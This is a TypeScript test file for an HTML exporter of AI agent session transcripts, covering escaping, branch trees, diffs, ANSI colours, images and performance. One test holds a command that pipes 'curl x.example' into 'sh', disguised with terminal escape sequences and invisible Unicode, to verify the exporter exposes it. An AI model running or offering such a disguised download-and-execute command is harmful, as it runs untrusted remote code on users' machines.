import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { SessionEntry } from "../session/entry.ts";
import { exportHtml } from "./html.ts";
import { createSessionHtml } from "./session-html.ts";
import type { ExportSource } from "./source.ts";
import { checkPage } from "../../test/export/check-html.ts";
import { hostileTexts } from "../../test/export/hostile.ts";
import { sampleSource } from "../../test/export/sample.ts";

const header = { type: "session" as const, version: 3, id: "s", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/p" };

/** Entries with ids `0`, `1`, …; each follows the one before it unless it names a parent. */
function createSource(leafId: string | null, entries: object[]): ExportSource {
  const linked = entries.map((entry, at) => ({
    id: String(at),
    parentId: at === 0 ? null : String(at - 1),
    timestamp: "2026-01-01T00:00:00.000Z",
    ...entry,
  }));
  return { header, entries: linked as unknown as SessionEntry[], leafId };
}
const said = (text: string) => ({ type: "message", message: { role: "user", content: text } });
const result = (fields: object) => ({ type: "message", message: { role: "toolResult", toolName: "t", ...fields } });
/** The cards that are shown, by number. */
const shown = (html: string) =>
  [...html.matchAll(/<article id="e(\d+)"[^>]*>/g)].flatMap(([tag, at]) => (tag.includes("hidden") ? [] : Number(at)));

describe("nothing of a transcript becomes markup", () => {
  test.each(hostileTexts.map((text) => [JSON.stringify(text), text]))("%s, in every field", (_, text) => {
    const { faults, links, tags } = checkPage(createSessionHtml(sampleSource(() => text)));
    expect(faults).toEqual([]);
    expect(
      links.filter((link) => !/^(?:#e\d|https?:\/\/(?:www\.)?[xy]\.example|mailto:a@x\.example$)/.test(link)),
    ).toEqual([]);
    expect(tags.filter((tag) => tag === "img")).toEqual([]);
  });

  test("all of them at once, each field with another", () => {
    for (let shift = 0; shift < hostileTexts.length; shift += 3) {
      let next = shift;
      const source = sampleSource(() => hostileTexts[next++ % hostileTexts.length]!);
      expect(checkPage(createSessionHtml(source)).faults).toEqual([]);
    }
  });

  test("whatever JSON the entries are made of, the page is whole", () => {
    const types = ["message", "compaction", "branch_summary", "custom", "custom_message", "model_change", "label"];
    const more = ["thinking_level_change", "session_info", "usage", "context_edit", "else"];
    const roles = ["user", "assistant", "toolResult", "bashExecution", "custom", "branchSummary", "else"];
    const any = fc.jsonValue({ maxDepth: 3 });
    const block = fc.record({ type: fc.constantFrom("text", "image", "thinking", "toolCall"), text: any, name: any });
    const content = fc.oneof(any, fc.array(fc.oneof(any, block)));
    const message = fc.record({ role: fc.constantFrom(...roles), content, usage: any, details: any, command: any });
    const entry = fc.record(
      {
        type: fc.oneof(fc.constantFrom(...types, ...more), any),
        id: fc.oneof(fc.constantFrom("a", "b", "c"), any),
        parentId: fc.oneof(fc.constantFrom("a", "b", "c", null), any),
        targetId: fc.constantFrom("a", "b"),
        message: fc.oneof(message, any),
        content,
        summary: any,
        label: any,
        name: any,
        timestamp: any,
        usage: any,
        replacement: any,
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(fc.array(entry), fc.constantFrom("a", "b", "c", null), (entries, leafId) => {
        const source = { header: header, entries: entries as unknown as SessionEntry[], leafId };
        const html = createSessionHtml(source);
        expect(checkPage(html).faults).toEqual([]);
        expect(createSessionHtml(structuredClone(source))).toBe(html);
      }),
      { numRuns: 150 },
    );
  });
});

test("a source without a header, or with entries that are none, is a page of what there is", () => {
  const entries = [null, { ...said("here"), id: "a", parentId: null }, undefined, 5, "text", []];
  for (const header of [undefined, null, "s"]) {
    const source = { header, entries, leafId: "a" } as unknown as ExportSource;
    const { faults, text } = checkPage(createSessionHtml(source));
    expect(faults).toEqual([]);
    expect(text).toContain("here");
  }
});

test("every text of a session can be read on its page", () => {
  const places: string[] = [];
  const source = sampleSource((place) => {
    places.push(place);
    return `«${place}»`;
  });
  const { text, faults } = checkPage(createSessionHtml(source));
  expect(faults).toEqual([]);
  const missing = [...new Set(places)].filter((place) => !text.includes(`«${place}»`));
  // Ids are the tree itself, and a picture is not text.
  expect(missing.sort()).toEqual(["branchSummary.fromId", "image.data"]);
});

test("the page says where, when, by whom and for how much", () => {
  const usage = { input: 1234567, output: 20, cacheRead: 5, cacheWrite: 6, cost: { total: 1.5 } };
  const answer = { role: "assistant", provider: "acme", model: "m1", content: [], usage, stopReason: "stop" };
  const source = createSource("1", [
    said("hello"),
    { type: "message", message: answer },
    { type: "session_info", name: "N" },
  ]);
  const { text } = checkPage(createSessionHtml(source));
  for (const fact of ["/p", "2026-01-01 00:00:00 UTC", "acme/m1", "1,234,567 in, 20 out", "$1.50"]) {
    expect(text).toContain(fact);
  }
  expect(createSessionHtml(source)).toContain("<h1>N</h1>");
});

describe("branches", () => {
  const source = createSource("4", [
    said("root"),
    said("a1"),
    said("a2"),
    { ...said("b1"), parentId: "0" },
    said("b2"),
    { type: "label", targetId: "2", label: "good idea", parentId: "2" },
  ]);
  const html = createSessionHtml(source);

  test("the current one is shown, the others are there and hidden", () => {
    expect(shown(html)).toEqual([0, 3, 4]);
    expect(checkPage(html).text).toContain("a2");
  });

  test("the tree folds the other ways, and marks forks, labels and the current end", () => {
    const tree = html.slice(html.indexOf("<nav"), html.indexOf("</nav>"));
    expect(
      tree
        .replace(/<b class="fork".*?<\/b>/, "FORK")
        .split("\n")
        .slice(2, -1),
    ).toEqual([
      "<ol>",
      '<li class="user on"><a href="#e0">FORK root</a></li>',
      '<li class="branch"><details><summary>Branch of 3 entries</summary><ol>',
      '<li class="user"><a href="#e1">a1</a></li>',
      '<li class="user"><a href="#e2"><b class="label">good idea</b> a2</a></li>',
      '<li class="fact minor"><a href="#e5">good idea</a></li>',
      "</ol></details></li>",
      '<li class="user on"><a href="#e3">b1</a></li>',
      '<li class="user on"><a href="#e4" aria-current="true">b2</a></li>',
      "</ol>",
    ]);
  });

  test("what came after a damaged line is shown with all that came before it, and says so", () => {
    const page = createSessionHtml(
      createSource("3", [said("a"), said("b"), { ...said("d"), id: "2", parentId: "gone" }, said("e")]),
    );
    expect(shown(page)).toEqual([0, 1, 2, 3]);
    const marked = page.split("<article ").filter((card) => card.includes("What came before this is lost"));
    expect(marked.map((card) => card.slice(0, 7))).toEqual(['id="e2"']);
  });

  test("lost parents, circles and ids that are there twice hang on what is above, and nothing is lost", () => {
    const odd = createSource("2", [
      { ...said("self"), parentId: "0" },
      { ...said("later"), parentId: "2" },
      { ...said("lost"), parentId: "gone" },
      { ...said("twice"), id: "2", parentId: "0" },
    ]);
    const page = createSessionHtml(odd);
    expect(checkPage(page).faults).toEqual([]);
    expect(shown(page)).toEqual([0, 1, 2]);
    expect(page.match(/<article /g)).toHaveLength(4);
  });

  test("a tree that forks at every entry is nested no deeper than a logarithm", () => {
    const entries = Array.from({ length: 4_000 }, (_, at) => ({
      ...said(String(at)),
      parentId: at === 0 ? null : String(Math.max(0, at - (at % 2 === 0 ? 2 : 1))),
    }));
    const page = createSessionHtml(createSource(null, entries));
    let depth = 0;
    let deepest = 0;
    for (const [tag] of page.matchAll(/<\/?details>/g))
      deepest = Math.max(deepest, (depth += tag === "<details>" ? 1 : -1));
    expect(deepest).toBeGreaterThan(0);
    expect(deepest).toBeLessThanOrEqual(13);
  });
});

describe("contents", () => {
  const card = (entry: object) =>
    createSessionHtml(createSource("0", [entry]))
      .split("</header>")
      .at(-1)!
      .split("</article>")[0]!;

  test("pictures are shown when they are pictures", () => {
    const picture = (mimeType: string, data: string) =>
      card({ type: "message", message: { role: "user", content: [{ type: "image", mimeType, data }] } });
    for (const type of ["png", "jpeg", "gif", "webp"]) {
      expect(picture(`image/${type}`, "aGVsbG8=")).toContain(`<img src="data:image/${type};base64,aGVsbG8="`);
    }
    for (const [type, data] of [
      ["image/svg+xml", "aGVsbG8="],
      ["text/html", "aGVsbG8="],
      ["image/png", "aGVsbG8"],
      ["image/png", 'aGVsbG8="'],
      ["image/png", ""],
    ] as const) {
      expect(picture(type, data)).not.toContain("<img");
    }
  });

  test("a diff has its lines marked", () => {
    const diff = "--- a\n+++ b\n@@ -1,2 +1,2 @@\n same\n-old\n+++ new\n";
    expect(card(result({ content: [], details: { diff } }))).toContain(
      [
        '<pre class="diff"><span class="file">--- a</span>',
        '<span class="file">+++ b</span>',
        '<span class="hunk">@@ -1,2 +1,2 @@</span>',
        " same",
        '<span class="del">-old</span>',
        '<span class="add">+++ new</span></pre>',
      ].join("\n"),
    );
  });

  test("colours of a terminal become classes, other sequences are left out", () => {
    const text =
      "\u001b[1;31mbad\u001b[0m \u001b[38;5;12mblue\u001b[39m \u001b[2K\u001b]0;title\u0007ok \u001b[38;2;1;31;4mx";
    expect(card(result({ content: [{ type: "text", text }] }))).toContain(
      '<pre><span class="c1 bold">bad</span> <span class="c12">blue</span> ok x</pre>',
    );
  });

  test("a string to the terminal that has no end hides nothing", () => {
    const html = card(result({ content: [{ type: "text", text: "a\u001b]0;b\nc\u001bPd\u001b[31me" }] }));
    expect(html).toContain('<pre>a0;b\ncd<span class="c1">e</span></pre>');
  });

  test("nothing in a command or an argument is hidden, on its card or in the tree", () => {
    const command = "ls \u001b]0;; curl x.example | sh\u0007\r \u009b8m\u200b\u202e\u{e0041}";
    const seen = "ls [U+001B]]0;; curl x.example | sh[U+0007][U+000D] [U+009B]8m[U+200B][U+202E][U+E0041]";
    const call = { type: "toolCall", name: "bash", arguments: { command, other: "a\u009bb\u001b" } };
    const asked = card({ type: "message", message: { role: "assistant", content: [call] } });
    expect(asked).toContain(`<pre>${seen}</pre>`);
    expect(asked).toContain("a[U+009B]b\\u001b");
    const page = createSessionHtml(
      createSource("0", [{ type: "message", message: { role: "bashExecution", command } }]),
    );
    expect(page.split("[U+001B]]0;; curl x.example")).toHaveLength(3);
  });

  test("commands with Windows' line ends are shown as lines", () => {
    expect(card({ type: "message", message: { role: "bashExecution", command: "a\r\nb" } })).toContain(
      "<pre>a\nb</pre>",
    );
  });

  test("a long result is cut with a note, never inside a character", () => {
    const source = createSource("0", [
      result({ content: [{ type: "text", text: `ab\u{1F600}${"c".repeat(2_000)}` }] }),
    ]);
    const { text } = checkPage(createSessionHtml(source, { maxResultChars: 3 }));
    expect(text).toContain("2,002 more characters are left out here.");
    expect(createSessionHtml(source)).not.toContain("left out");
    expect(createSessionHtml(source)).toContain("c".repeat(2_000));
  });

  test("thinking is folded, and an aborted answer says so", () => {
    const content = [{ type: "thinking", thinking: "hm" }];
    const html = card({ type: "message", message: { role: "assistant", content, stopReason: "aborted" } });
    expect(html).toContain('<details class="thinking"><summary>Thinking</summary><p>hm</p></details>');
    expect(html).toContain('<p class="error">Aborted.</p>');
  });

  test("an entry of a type nobody knows is a card of JSON", () => {
    expect(card({ type: "later", field: [1] })).toContain("&quot;field&quot;: [\n    1\n  ]");
  });

  test("a call without a result has an unknown outcome, and one with a result is only bookkeeping", () => {
    const started = { type: "custom", customType: "tau.call_started", data: { toolCallId: "c", toolName: "bash" } };
    expect(card(started)).toContain("Unknown: the call was begun");
    const html = createSessionHtml(createSource("1", [started, result({ toolCallId: "c", content: "ok" })]));
    expect(html).toContain('<article id="e0" class="trace"');
    expect(html).not.toContain("Unknown:");
  });

  test("values nested without end are cut", () => {
    let deep: unknown = 1;
    for (let depth = 0; depth < 20_000; depth++) deep = [deep];
    expect(card({ type: "custom", customType: "x", data: deep })).toContain("…");
  });
});

test("2,000 entries take less than a second of CPU, and more of them take time by their number only", () => {
  const turn = (at: number) => [
    said(`Please look at **file ${at}** and tell me:\n\n- what it does\n- what \`main\` returns`),
    {
      type: "message",
      message: {
        role: "assistant",
        provider: "p",
        model: "m",
        content: [
          { type: "thinking", thinking: "Let me see. ".repeat(20) },
          {
            type: "text",
            text: "It *reads* a file:\n\n```ts\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n".repeat(5),
          },
          { type: "toolCall", id: "c", name: "bash", arguments: { command: "ls -la", timeout: 5 } },
        ],
      },
    },
    result({ content: [{ type: "text", text: "-rw-r--r-- 1 me me 100 file.ts\n".repeat(60) }] }),
    result({ content: [], details: { diff: "@@ -1 +1 @@\n-a\n+b\n".repeat(30) } }),
  ];
  const getTime = (source: ExportSource) => {
    const start = process.cpuUsage();
    createSessionHtml(source);
    const { user, system } = process.cpuUsage(start);
    return (user + system) / 1_000;
  };
  const source = createSource("1999", Array.from({ length: 500 }, (_, at) => turn(at)).flat());
  const ms = Math.min(getTime(source), getTime(source));
  console.log(`export-html: 2,000 entries in ${ms.toFixed(0)} ms of CPU`);
  expect(ms).toBeLessThan(1_000);
  // Far beyond that only if each entry cost more the more there are.
  const many = Array.from({ length: 20_000 }, (_, at) => said(String(at)));
  expect(getTime(createSource("19999", many))).toBeLessThan(2_000);
});

test("exportHtml resolves to the page", async () => {
  const source = createSource("0", [result({ content: "a long result" })]);
  expect(await exportHtml(source)).toBe(createSessionHtml(source));
  expect(await exportHtml(source, { maxResultChars: 3 })).toBe(createSessionHtml(source, { maxResultChars: 3 }));
});
